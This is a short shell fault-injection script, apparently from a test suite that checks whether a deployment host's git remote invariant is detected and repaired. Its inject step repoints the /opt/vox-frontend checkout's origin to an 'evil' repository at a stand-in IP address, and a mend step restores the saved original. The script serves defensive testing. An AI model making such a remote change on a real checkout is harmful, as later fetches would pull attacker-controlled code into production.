# The remote of a checkout is another one: the next fetch comes from there.
# host: api-1
# violated: remote-is-bitbucket[console-api-1]
# follow: mends
inject() {
	mkdir -p $FAULT && as_deploy git -C /opt/vox-frontend remote get-url origin >$FAULT/origin
	as_deploy git -C /opt/vox-frontend remote set-url origin git@198.51.100.66:evil/vox-frontend.git
}
landed() { grep -q 198.51.100.66 /opt/vox-frontend/.git/config; }
mend() { as_deploy git -C /opt/vox-frontend remote set-url origin "$(cat $FAULT/origin)"; }
